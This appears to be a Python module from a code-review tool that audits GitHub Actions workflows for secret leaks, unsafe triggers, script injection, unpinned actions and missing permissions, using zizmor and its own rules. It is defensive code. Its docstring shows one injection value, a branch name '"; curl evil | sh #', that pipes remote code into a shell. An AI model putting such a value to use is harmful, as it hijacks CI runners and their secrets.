"""GitHub workflows cannot leak secrets or run a pull request's code with write access.

A workflow under `.github/workflows/` runs on GitHub with the repository's token and, in
most events, its secrets. One careless line there hands both to whoever opens a pull
request, so every workflow the change adds or modifies (every workflow with `--all`) is
audited twice:

- **zizmor**, the static auditor for GitHub Actions, offline (the version autokit pins).
  Its high-severity findings are errors, its medium and low ones warnings (they deserve
  a look but are often deliberate); informational ones are left out. The audit ignores
  zizmor configuration files and `# zizmor: ignore` comments, since the change under
  review could add them. A workflow zizmor cannot read is an error too: what cannot be
  audited cannot be trusted.
- **autokit's own rules**, each an error at its line:
  - no `pull_request_target` trigger: it runs with the base repository's secrets and a
    write token while the pull request is still unreviewed; use `pull_request`;
  - no `workflow_run` workflow that checks out the pull request's head
    (`actions/checkout` given a `ref:` or `repository:` from `github.event.workflow_run`):
    it runs that code with secrets;
  - no `secrets: inherit`: a called workflow gets exactly the secrets it is given by name;
  - no `toJSON(secrets)`: it puts every secret of the repository into one value;
  - no `${{ }}` of an untrusted context (`github.event.*`, `github.head_ref`,
    `inputs.*`) inside a `run:` script: the text is pasted into the script before the
    shell sees it, so a branch name or title such as `"; curl evil | sh #` runs. Pass it
    through `env:` and quote the variable instead;
  - every `uses:` pinned to a full 40-character commit SHA (a tag or branch can be moved
    to other code later); local actions (`./...`) and `docker://` images pinned by a
    `sha256:` digest are fine;
  - `permissions:` declared, at the top of the workflow or on every job, so that the
    token holds only what the workflow needs.

Fix: follow the hint of each finding; the safe form of a script that needs an event value
is

```yaml
- env:
    TITLE: ${{ github.event.pull_request.title }}
  run: echo "$TITLE"
```
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import sysconfig
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any, TypeGuard

from toolkit.findings import ERROR, WARNING, Finding

if TYPE_CHECKING:
    import yaml

    from toolkit.policy.context import PolicyContext

WORKFLOWS_DIR = ".github/workflows"
WORKFLOW_SUFFIXES = (".yml", ".yaml")
MAX_WORKFLOW_BYTES = 1024 * 1024
ZIZMOR_TIMEOUT_SECONDS = 120
# zizmor's exit codes: 0 nothing found, 10-14 findings of rising severity, others a failure.
ZIZMOR_FINDINGS_EXITS = {0, 10, 11, 12, 13, 14}
ZIZMOR_SEVERITIES = {"high": ERROR, "medium": WARNING, "low": WARNING}
# Only what zizmor needs to run: no tokens (it is offline) and no ZIZMOR_* settings.
ZIZMOR_ENVIRONMENT = ("PATH", "HOME", "LANG", "LC_ALL", "TMPDIR", "SYSTEMROOT")

FULL_SHA = re.compile(r"[0-9a-f]{40}")
DOCKER_DIGEST = re.compile(r"docker://\S+@sha256:[0-9a-f]{64}")
EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
# Expressions are case-insensitive, and `github['head_ref']` means `github.head_ref`.
UNTRUSTED = re.compile(
    r"(?<![\w.])(?:github\s*(?:\.\s*|\[\s*['\"])(?:event|head_ref)\b|inputs\s*[.\[])",
    re.IGNORECASE,
)
ALL_SECRETS = re.compile(r"tojson\s*\(\s*secrets\s*\)", re.IGNORECASE)
# Any part of the triggering run (its head_sha, head_branch, pull_requests) names PR code.
PR_HEAD = re.compile(r"github\s*\.\s*event\s*\.\s*workflow_run|head_sha|head_branch", re.I)


def check(ctx: PolicyContext) -> list[Finding]:
    paths = workflow_paths(ctx)
    findings: list[Finding] = []
    readable: list[str] = []
    for path in paths:
        problems, workflow = _read(ctx, path)
        findings += problems
        if workflow is not None:
            readable.append(path)
            findings += [
                ctx.finding(path, message, hint, line=line)
                for line, message, hint in workflow.rules()
            ]
    if readable:
        findings += _zizmor(ctx, readable)
    return findings


def workflow_paths(ctx: PolicyContext) -> list[str]:
    """The workflows to audit: those the change adds or modifies, or all with --all."""
    if ctx.scope.changes is None:
        folder = ctx.root / WORKFLOWS_DIR
        found = sorted(folder.iterdir()) if folder.is_dir() else []
        candidates = [ctx.relative(path) for path in found]
    else:
        candidates = sorted(set(ctx.scope.other_paths))
    return [path for path in candidates if _is_workflow(ctx, path)]


def _is_workflow(ctx: PolicyContext, path: str) -> bool:
    # GitHub runs only the files directly in .github/workflows/.
    folder, _, name = path.rpartition("/")
    if folder != WORKFLOWS_DIR or not name.endswith(WORKFLOW_SUFFIXES):
        return False
    target = ctx.root / path
    return target.is_symlink() or target.is_file()  # a deleted workflow needs no audit


# --- reading ---------------------------------------------------------------------------


def _read(ctx: PolicyContext, path: str) -> tuple[list[Finding], Workflow | None]:
    """The workflow's node tree, or the one finding that says why it cannot be read."""
    target = ctx.root / path
    if target.is_symlink():
        return [
            ctx.finding(
                path,
                "the workflow is a symbolic link; GitHub and the audit need the file itself",
                "replace the link with the workflow file",
                line=1,
            )
        ], None
    size = target.stat().st_size
    if size > MAX_WORKFLOW_BYTES:
        message = f"the workflow is {size:,} bytes, over the 1 MiB limit"
        return [ctx.finding(path, message, "split it into smaller workflows", line=1)], None
    try:
        return [], Workflow(parse_nodes(target.read_bytes().decode("utf-8")))
    except UnicodeDecodeError as error:
        line = target.read_bytes()[: error.start].count(b"\n") + 1
        return [ctx.finding(path, "the workflow is not UTF-8", "save it as UTF-8", line=line)], None
    except WorkflowProblem as problem:
        return [ctx.finding(path, problem.message, problem.hint, line=problem.line)], None


class WorkflowProblem(Exception):
    def __init__(self, message: str, line: int, hint: str) -> None:
        super().__init__(message)
        self.message, self.line, self.hint = message, line, hint


def parse_nodes(text: str) -> yaml.MappingNode:
    """The YAML node tree of a workflow, with the line of every node.

    Composing builds no values, so aliases are never expanded (a YAML bomb stays small);
    the pure-Python loader is used because its marks index characters of `text`.
    """
    import yaml

    try:
        root = yaml.compose(text, Loader=yaml.SafeLoader)
    except yaml.MarkedYAMLError as error:
        mark = error.problem_mark or error.context_mark
        if error.context_mark and "stream end" in (error.problem or ""):
            mark = error.context_mark  # an unclosed bracket or quote: where it opened
        line = min(mark.line + 1 if mark else 1, len(text.splitlines()) or 1)
        reason = " ".join(part for part in (error.context, error.problem) if part)
        raise WorkflowProblem(
            f"the workflow is not valid YAML: {reason}", line, "fix the YAML syntax here"
        ) from None
    except yaml.YAMLError as error:
        raise WorkflowProblem(f"the workflow is not valid YAML: {error}", 1, "fix it") from None
    except RecursionError:
        raise WorkflowProblem(
            "the workflow is nested too deeply to read", 1, "flatten the nested lists"
        ) from None
    if not isinstance(root, yaml.MappingNode):
        raise WorkflowProblem(
            "the workflow is not a mapping of keys (on:, jobs:, ...)",
            root.start_mark.line + 1 if root is not None else 1,
            "start from an existing workflow in .github/workflows/",
        )
    return root


Rule = tuple[int, str, str]  # line, message, hint


@dataclass
class Workflow:
    """A parsed workflow, and autokit's rules applied to its nodes."""

    root: yaml.MappingNode

    def rules(self) -> Iterator[Rule]:
        yield from self._triggers()
        yield from self._inherited_secrets()
        yield from self._all_secrets()
        yield from self._scripts()
        yield from self._pins()
        yield from self._permissions()

    # -- structure --

    def jobs(self) -> Iterator[tuple[yaml.Node, yaml.MappingNode]]:
        """Each job's key node and its mapping."""
        for key, job in _items(_get(self.root, "jobs")):
            if _is_mapping(job):
                yield key, job

    def steps(self) -> Iterator[yaml.MappingNode]:
        for _key, job in self.jobs():
            steps = _get(job, "steps")
            for step in _sequence(steps):
                if _is_mapping(step):
                    yield step

    def triggers(self) -> dict[str, yaml.Node]:
        """Each event the workflow runs on, with the node that names it."""
        on = _get(self.root, "on")
        named = [key for key, _ in _items(on)] if _is_mapping(on) else [*_sequence(on), on]
        return {node.value: node for node in named if _is_scalar(node)}

    # -- rules --

    def _triggers(self) -> Iterator[Rule]:
        triggers = self.triggers()
        if "pull_request_target" in triggers:
            yield (
                _line(triggers["pull_request_target"]),
                "`pull_request_target` runs with the repository's secrets and a write token "
                "while the pull request is unreviewed",
                "use `on: pull_request`, which runs a pull request's code without secrets",
            )
        if "workflow_run" in triggers:
            yield from self._head_checkouts()

    def _head_checkouts(self) -> Iterator[Rule]:
        for step in self.steps():
            uses = _get(step, "uses")
            if not (_is_scalar(uses) and uses.value.lower().startswith("actions/checkout@")):
                continue
            for _key, value in _items(_get(step, "with")):
                if _is_scalar(value) and PR_HEAD.search(value.value):
                    yield (
                        _line(value),
                        "a `workflow_run` workflow checks out the pull request's head: it runs "
                        "that code with the repository's secrets and a write token",
                        "check out the default branch here; build and test pull requests in "
                        "the `pull_request` workflow and pass results on as artifacts",
                    )

    def _inherited_secrets(self) -> Iterator[Rule]:
        for _key, job in self.jobs():
            secrets = _get(job, "secrets")
            if _is_scalar(secrets) and secrets.value.strip().lower() == "inherit":
                yield (
                    _line(secrets),
                    "`secrets: inherit` gives the called workflow every secret of the repository",
                    "pass only what it needs, by name: `secrets: {TOKEN: ${{ secrets.TOKEN }}}`",
                )

    def _all_secrets(self) -> Iterator[Rule]:
        for node in _scalars(self.root):
            for at in _offsets(ALL_SECRETS, node.value):
                yield (
                    _line(node, at),
                    "`toJSON(secrets)` puts every secret of the repository into one value",
                    "name each secret a step needs in its `env:`, e.g. "
                    "`TOKEN: ${{ secrets.TOKEN }}`",
                )

    def _scripts(self) -> Iterator[Rule]:
        for step in self.steps():
            script = _get(step, "run")
            if not _is_scalar(script):
                continue
            for match in EXPRESSION.finditer(script.value):
                if UNTRUSTED.search(match[1]):
                    yield _injection(script, match)

    def _pins(self) -> Iterator[Rule]:
        uses = [_get(job, "uses") for _key, job in self.jobs()]
        uses += [_get(step, "uses") for step in self.steps()]
        for node in uses:
            if _is_scalar(node) and not _pinned(node.value.strip()):
                yield _unpinned(node)

    def _permissions(self) -> Iterator[Rule]:
        if _get(self.root, "permissions") is not None:
            return
        for key, job in self.jobs():
            if _get(job, "permissions") is None:
                yield (
                    _line(key),
                    f"job '{key.value}' has no `permissions:`, and the workflow declares none "
                    "at the top, so its token gets the repository's defaults",
                    "add `permissions:` with `contents: read` at the top of the workflow, and "
                    "grant more only on the job that needs it",
                )


def _injection(script: yaml.ScalarNode, match: re.Match[str]) -> Rule:
    expression = match[0]
    return (
        _line(script, (match.start(), len(expression))),
        f"`{expression}` is pasted into the `run:` script before the shell reads it, so an "
        "attacker's text in it runs as code",
        f"pass it through the step's `env:`, e.g. `env: {{VALUE: {expression}}}`, and use "
        '"$VALUE" in the script',
    )


def _unpinned(uses: yaml.ScalarNode) -> Rule:
    if uses.value.strip().startswith("docker://"):
        return (
            _line(uses),
            f"`uses: {uses.value}` is not pinned to a digest: the tag can be moved to "
            "another image",
            "pin the image by its digest, e.g. `uses: docker://alpine@sha256:<64 hex digits>`",
        )
    return (
        _line(uses),
        f"`uses: {uses.value}` is not pinned to a commit: the tag or branch can be moved "
        "to other code",
        "pin the full 40-character commit SHA of a release and keep the tag in a comment, "
        "e.g. `uses: actions/checkout@<commit sha>  # v4.2.2`",
    )


def _pinned(reference: str) -> bool:
    if reference.startswith("./"):
        return True
    if reference.startswith("docker://"):
        return DOCKER_DIGEST.fullmatch(reference) is not None
    _action, at, ref = reference.rpartition("@")
    return bool(at) and FULL_SHA.fullmatch(ref) is not None


# --- node helpers (every walk visits each node once, so aliases cost nothing) -----------


def _is_mapping(node: yaml.Node | None) -> TypeGuard[yaml.MappingNode]:
    import yaml

    return isinstance(node, yaml.MappingNode)


def _is_scalar(node: yaml.Node | None) -> TypeGuard[yaml.ScalarNode]:
    import yaml

    return isinstance(node, yaml.ScalarNode)


def _items(node: yaml.Node | None) -> list[tuple[yaml.Node, yaml.Node]]:
    return list(node.value) if _is_mapping(node) else []


def _sequence(node: yaml.Node | None) -> list[yaml.Node]:
    import yaml

    return list(node.value) if isinstance(node, yaml.SequenceNode) else []


def _get(node: yaml.Node | None, key: str) -> Any:
    """The value node under `key` in a mapping node (the first, if repeated), or None."""
    for key_node, value in _items(node):
        if _is_scalar(key_node) and key_node.value == key:
            return value
    return None


def _scalars(root: yaml.Node) -> Iterator[Any]:
    """Every scalar node, keys included, each visited once however often it is aliased."""
    seen: set[int] = set()
    pending: list[yaml.Node] = [root]
    while pending:
        node = pending.pop()
        if id(node) in seen:
            continue
        seen.add(id(node))
        if _is_scalar(node):
            yield node
        elif _is_mapping(node):
            pending += [part for pair in node.value for part in pair]
        else:
            pending += _sequence(node)


def _offsets(pattern: re.Pattern[str], text: str) -> list[tuple[int, int]]:
    return [(match.start(), len(match[0])) for match in pattern.finditer(text)]


def _line(node: yaml.Node, at: tuple[int, int] | None = None) -> int:
    """The 1-based line of a node, or of the text at (offset, length) in a scalar's value.

    The value of a block scalar (`run: |`) is its source with the indentation removed, so
    its n-th line is the n-th line after the `|`. Other scalars fold and unescape their
    source, so the text is looked up there: its k-th occurrence in the value is the k-th
    in the node's source.
    """
    start = node.start_mark.line + 1
    if at is None or not isinstance(node.value, str):
        return start
    value: str = node.value
    offset, length = at
    if getattr(node, "style", None) == "|":
        return start + 1 + value.count("\n", 0, offset)
    needle = value[offset : offset + length].split("\n", 1)[0]
    source = (node.start_mark.buffer or "")[node.start_mark.index : node.end_mark.index]
    found = -1
    for _ in range(value.count(needle, 0, offset) + 1):
        found = source.find(needle, found + 1)
        if found < 0:
            return start
    return start + source.count("\n", 0, found)


# --- zizmor ----------------------------------------------------------------------------


def _zizmor(ctx: PolicyContext, paths: list[str]) -> list[Finding]:
    """zizmor's offline audit of all `paths` in one process, as findings."""
    executable = zizmor_executable()
    if executable is None:
        return [
            ctx.finding(
                paths[0],
                "zizmor is not installed, so the workflows were not audited",
                "install autokit with its dependencies (`pip install -e .`), which pin zizmor",
                line=1,
            )
        ]
    command = [executable, "--offline", "--no-config", "--no-ignores", "--no-progress"]
    command += ["--persona", "regular", "--format", "json", "--color", "never", "--", *paths]
    environment = {k: v for k, v in os.environ.items() if k in ZIZMOR_ENVIRONMENT}
    try:
        result = subprocess.run(
            command,
            cwd=ctx.root,
            env=environment,
            capture_output=True,
            text=True,
            timeout=ZIZMOR_TIMEOUT_SECONDS,
            check=False,
        )
    except (OSError, subprocess.TimeoutExpired) as error:
        return [_zizmor_failed(ctx, paths[0], str(error))]
    return _zizmor_findings(ctx, paths, result)


def zizmor_executable() -> str | None:
    """The zizmor binary installed with autokit (beside this Python), else one on PATH."""
    for folder in (sysconfig.get_path("scripts"), str(Path(sys.executable).parent)):
        for name in ("zizmor", "zizmor.exe"):
            candidate = Path(folder) / name
            if candidate.is_file():
                return str(candidate)
    return shutil.which("zizmor")


def _zizmor_findings(
    ctx: PolicyContext, paths: list[str], result: subprocess.CompletedProcess[str]
) -> list[Finding]:
    nothing_audited = "no inputs collected" in result.stderr  # every workflow was skipped
    if result.returncode not in ZIZMOR_FINDINGS_EXITS and not nothing_audited:
        return [_zizmor_failed(ctx, paths[0], _last_line(result.stderr))]
    skipped = _skipped_by_zizmor(paths, result.stderr)
    try:
        reported = json.loads(result.stdout) if result.stdout.strip() else []
    except json.JSONDecodeError:
        return [_zizmor_failed(ctx, paths[0], "its output is not JSON")]
    findings = [_unreadable_by_zizmor(ctx, path, reason) for path, reason in skipped.items()]
    for item in reported if isinstance(reported, list) else []:
        finding = _zizmor_finding(ctx, item)
        if finding is not None:
            findings.append(finding)
    return findings


def _zizmor_finding(ctx: PolicyContext, item: dict[str, Any]) -> Finding | None:
    """One of zizmor's JSON findings, at its primary location; None below low severity."""
    severity = ZIZMOR_SEVERITIES.get(str(item["determinations"]["severity"]).lower())
    primary = next((p for p in item["locations"] if p["symbolic"]["kind"] == "Primary"), None)
    # `ignored` is not consulted: it marks an ignore comment, which the PR itself may add.
    if severity is None or primary is None:
        return None
    path = primary["symbolic"]["key"]["Local"]["verbatim_path"]
    point = primary["concrete"]["location"]["start_point"]
    annotation = primary["symbolic"].get("annotation") or ""
    message = f"zizmor {item['ident']}: {item['desc']}" + (f": {annotation}" if annotation else "")
    return ctx.finding(
        path,
        message,
        f"see {item['url']}",
        line=point["row"] + 1,
        column=point["column"] + 1,
        severity=severity,
    )


def _skipped_by_zizmor(paths: list[str], stderr: str) -> dict[str, str]:
    """The workflows zizmor read but did not audit (it warns and goes on), with why.

    zizmor logs `completed <path>` for each workflow it audited; any other one it skipped.
    """
    completed = {m[1].strip() for m in re.finditer(r"completed (.+)$", stderr, re.MULTILINE)}
    reasons = {}
    for path in paths:
        if path in completed:
            continue
        warning = next((line for line in stderr.splitlines() if f"file://{path} " in line), "")
        reasons[path] = warning.rsplit(": ", 1)[-1].strip() if warning else "it did not read it"
    return reasons


def _unreadable_by_zizmor(ctx: PolicyContext, path: str, reason: str) -> Finding:
    return ctx.finding(
        path,
        f"zizmor could not audit this workflow ({reason})",
        "make it a valid GitHub workflow; check it with `zizmor --offline` on your machine",
        line=1,
    )


def _zizmor_failed(ctx: PolicyContext, path: str, reason: str) -> Finding:
    return ctx.finding(
        path,
        f"zizmor failed, so the workflows were not audited: {reason}",
        "run `zizmor --offline .github/workflows` to see why; reinstall autokit if it is broken",
        line=1,
    )


def _last_line(text: str) -> str:
    lines = [line.strip() for line in text.splitlines() if line.strip()]
    errors = [line for line in lines if line.startswith(("error:", "fatal:"))]
    return (errors or lines or ["no error message"])[-1]
